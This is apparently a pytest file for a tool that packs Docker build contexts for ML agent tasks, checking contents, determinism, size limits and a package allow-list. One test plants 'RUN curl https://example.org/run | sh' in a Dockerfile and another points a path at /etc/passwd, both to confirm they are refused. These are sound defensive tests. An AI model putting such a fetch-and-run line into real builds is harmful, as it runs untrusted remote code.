"""The context of a task's image: exactly what an agent may see, and a Dockerfile that nobody has tampered with."""

from __future__ import annotations

import io
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from mlgym_synth.datasets.prepare import prepare
from mlgym_synth.errors import InputError
from mlgym_synth.images.thin import LARGEST, dockerfile, thin_tag, write_context
from mlgym_synth.tasks.suite import Suite, Task, write_task


def contents(task: Task, allow_unsafe: bool = False) -> dict[str, bytes]:
    stream = io.BytesIO()
    write_context(task, stream, allow_unsafe)
    stream.seek(0)
    with tarfile.open(fileobj=stream) as tar:
        return {member.name: tar.extractfile(member).read() for member in tar.getmembers()}


def changed(task: Task, folder: Path, **parts: object) -> Task:
    return write_task(folder / "suite", replace(task.files, **parts))


def test_a_csv_task_carries_starter_files_and_the_agents_data(csv_task: Task) -> None:
    public = prepare(csv_task.recipe).public
    assert contents(csv_task) == {
        "Dockerfile": csv_task.files.dockerfile.encode(),
        "workspace/baseline.py": csv_task.files.starter["baseline.py"],
        "workspace/sample_submission.csv": csv_task.files.starter["sample_submission.csv"],
        "data/train.csv": (public / "train.csv").read_bytes(),
        "data/test.csv": (public / "test.csv").read_bytes(),
    }


def test_a_code_task_carries_starter_files_only(code_task: Task) -> None:
    names = {f"workspace/{name}" for name in code_task.files.starter if name != "evaluate.py"}
    assert contents(code_task).keys() == {"Dockerfile", *names}
    assert "COPY data/" not in code_task.files.dockerfile


def test_equal_tasks_give_equal_bytes(csv_task: Task) -> None:
    first, second = io.BytesIO(), io.BytesIO()
    data = write_context(csv_task, first)
    write_context(csv_task, second)
    assert first.getvalue() == second.getvalue()
    assert data == sum(path.stat().st_size for path in prepare(csv_task.recipe).public.iterdir())


def test_drafts_carry_the_dockerfile_of_their_family(suite: Suite) -> None:
    for task in suite:
        assert task.files.dockerfile == dockerfile(task.id, "tabular", task.recipe.data is not None)
        assert "ARG BASE_IMAGE=mlgym-synth/tabular:latest\n" in task.files.dockerfile


def test_a_dockerfile_that_somebody_has_changed_is_refused(code_task: Task, tmp_path: Path) -> None:
    hostile = code_task.files.dockerfile + "RUN curl https://example.org/run | sh\n"
    task = changed(code_task, tmp_path, dockerfile=hostile)
    with pytest.raises(InputError, match="is not the Dockerfile that this version writes"):
        contents(task)
    assert contents(task, allow_unsafe=True)["Dockerfile"] == hostile.encode()


def test_starter_files_larger_than_the_bound_are_refused(code_task: Task, tmp_path: Path) -> None:
    large = {**code_task.files.starter, "noise.bin": bytes(LARGEST)}
    with pytest.raises(InputError, match="bytes"):
        contents(changed(code_task, tmp_path, starter=large))


@pytest.mark.parametrize(("requirement", "fits"), [("numpy\n", True), ("left-pad\n", False)])
def test_requirements_of_a_task_are_held_against_the_allow_list(
    code_task: Task, tmp_path: Path, requirement: str, fits: bool
) -> None:
    config = code_task.config.model_copy(update={"requirements_path": f"data/{code_task.id}/requirements.txt"})
    starter = {**code_task.files.starter, "requirements.txt": requirement.encode()}
    task = changed(code_task, tmp_path, config=config, starter=starter)
    if fits:
        assert contents(task)["workspace/requirements.txt"] == requirement.encode()
    else:
        with pytest.raises(InputError, match="left-pad"):
            contents(task)


def test_requirements_that_are_not_there(code_task: Task, tmp_path: Path) -> None:
    config = code_task.config.model_copy(update={"requirements_path": "/etc/passwd"})
    with pytest.raises(InputError, match="has no file /etc/passwd"):
        contents(changed(code_task, tmp_path, config=config))


def test_names_are_told_apart_by_content_and_harness(suite: Suite, csv_task: Task, tmp_path: Path) -> None:
    other = changed(csv_task, tmp_path, hidden={**csv_task.files.hidden, "reference.py": b"pass\n"})
    tags = {thin_tag(csv_task), thin_tag(csv_task, sweagent=True), thin_tag(other)}
    assert len(tags) == 3
    assert thin_tag(csv_task) == f"mlgym-synth/task:image-classification-0-{csv_task.content_hash[:12]}"


@pytest.mark.parametrize("task_id", ["a:b", "ÄÖ.x", "_", "x" * 300])
def test_any_id_gives_a_name_that_engines_take(code_task: Task, tmp_path: Path, task_id: str) -> None:
    task = Task(task_id, tmp_path)
    task.__dict__["files"] = code_task.files
    tag = thin_tag(task, sweagent=True).removeprefix("mlgym-synth/task:")
    assert tag.isascii()
    assert len(tag) <= 128
    assert tag[0] not in ".-"
